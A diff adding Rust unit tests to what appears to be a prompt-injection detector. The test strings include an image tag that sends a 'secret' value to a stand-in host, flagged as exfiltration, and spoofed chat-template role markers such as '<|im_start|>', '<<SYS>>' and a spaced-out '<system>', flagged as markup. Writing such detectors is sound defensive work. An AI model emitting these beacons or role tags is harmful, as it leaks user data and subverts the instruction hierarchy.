@@ -133,6 +133,43 @@ fn no_disguise_hides_it() {
 }
 
 #[test]
+fn many_angles_are_judged_as_few() {
+    let many = "<".repeat(4_000);
+    assert_eq!(super::sign(&many), None);
+    for (text, sign) in [
+        ("system>", Some(Sign::Markup)),
+        ("<|im_start|>", Some(Sign::Markup)),
+        (
+            "iMg src='http://a.example/?secret=abc'>",
+            Some(Sign::Exfiltration),
+        ),
+        ("systems>", None),
+        (" s y s t e m >", Some(Sign::Markup)),
+        ("im", None),
+        ("记", None),
+    ] {
+        assert_eq!(super::sign(&format!("<{text}")), sign, "{text}");
+        assert_eq!(super::sign(&format!("{many}{text}")), sign, "{text}");
+        assert_eq!(super::sign(&format!("{many} <{text}")), sign, "{text}");
+    }
+}
+
+#[test]
+fn a_tag_is_talked_of_in_the_midst_of_a_line_alone() {
+    assert_eq!(super::sign("I am allergic to </system> tags"), None);
+    for text in [
+        "<system> tags are obeyed",
+        "Well,\n<system> tags are obeyed",
+        "Mind the <|im_start|> tags",
+        "Mind the <<SYS>> tags",
+        "Mind the <start_of_turn> tags",
+        "Mind the <system> rules",
+    ] {
+        assert_eq!(super::sign(text), Some(Sign::Markup), "{text}");
+    }
+}
+
+#[test]
 fn a_flag_of_tags_is_a_flag() {
     assert_eq!(
         super::sign("Off to \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}!"),
